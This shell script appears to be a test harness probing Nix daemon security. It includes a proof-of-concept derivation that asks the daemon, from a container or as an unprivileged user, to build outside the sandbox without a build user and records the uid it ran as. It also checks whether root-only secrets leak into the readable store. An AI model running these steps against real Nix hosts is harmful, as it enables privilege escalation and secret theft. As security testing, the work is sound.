# A Nix store of its own, on a file system with mapped mounts, and the settings of NixOS's daemon.
mkdir -p /lab/nix /nix
mount --bind /lab/nix /nix
mkdir -p /nix/store /nix/var/nix /etc/nix /lab/src
echo nixbld:x:30000:nixbld1 >> /etc/group
echo nixbld1:x:30001:30000::/:/bin/false >> /etc/passwd
printf 'experimental-features = nix-command\nbuild-users-group = nixbld\nsandbox = true\nsubstituters =\n' > /etc/nix/nix.conf
say() { nix "$@" 2>&1 | grep -v "don't have Internet"; }

# The daemon, and the file system of a guest that has the program.
daemon() {
    setsid nix-daemon >/lab/daemon.log 2>&1 </dev/null &
    for i in $(seq 40); do [ -S /nix/var/nix/daemon-socket/socket ] && break; sleep 0.05; done
    for f in usr etc/nix proc sys dev run tmp var root nix/var/nix; do mkdir -p /lab/guest/$f; done
    for l in bin sbin lib lib64; do ln -s usr/$l /lab/guest/$l; done
    cp /etc/passwd /etc/group /etc/os-release /etc/nsswitch.conf /lab/guest/etc/
    cp /etc/nix/nix.conf /lab/guest/etc/nix/
}

# guest PRIVATE_USERS SUFFIX COMMAND...: runs it in a guest with the store and the daemon's socket bound read-only, as
# every NixOS container has them.
guest() {
    m=$1 o=$2
    shift 2
    systemd-nspawn -q -D /lab/guest --register=no --keep-unit --as-pid2 -M web --link-journal=no --private-users="$m" \
        --bind-ro=/suite/usr:/usr"$o" --bind-ro=/nix/store:/nix/store"$o" \
        --bind-ro=/nix/var/nix/daemon-socket:/nix/var/nix/daemon-socket"$o" --setenv=HOME=/root "$@" 2>&1 </dev/null
}

# A build that wants to run outside of the sandbox and without a build user, and what came of it.
cat > /lab/attack.nix <<'X'
derivation { name = "x"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "/usr/bin/id -u > /lab/owned; echo done > $out" ]; }
X
attack_from_guest() {
    guest "$1" "$2" --bind-ro=/lab/attack.nix:/mnt/attack.nix \
        nix-build /mnt/attack.nix --no-out-link --store daemon --option sandbox false --option build-users-group ''
    echo host ran it as $(cat /lab/owned 2>&1)
}
attack_as() {
    as_user "$1" nix-build /lab/attack.nix --no-out-link --store daemon --option sandbox false \
        --option build-users-group '' 2>&1
    echo host ran it as $(cat /lab/owned 2>&1)
}

# Files with secrets that only root may read, and a folder with one.
echo 'top secret' > /lab/src/secret.env
chmod 600 /lab/src/secret.env
mkdir /lab/src/dir
echo 'other secret' > /lab/src/dir/other
echo plain > /lab/src/dir/plain

# evaluate EXPRESSION: its value, and what another user then reads in the store.
evaluate() {
    say eval --impure --raw --expr "$1" > /tmp/o
    echo "value $(tail -n 1 /tmp/o)"
    as_user mate sh -c 'cat /nix/store/*secret* /nix/store/*/other /nix/store/*text* 2>/dev/null'
}
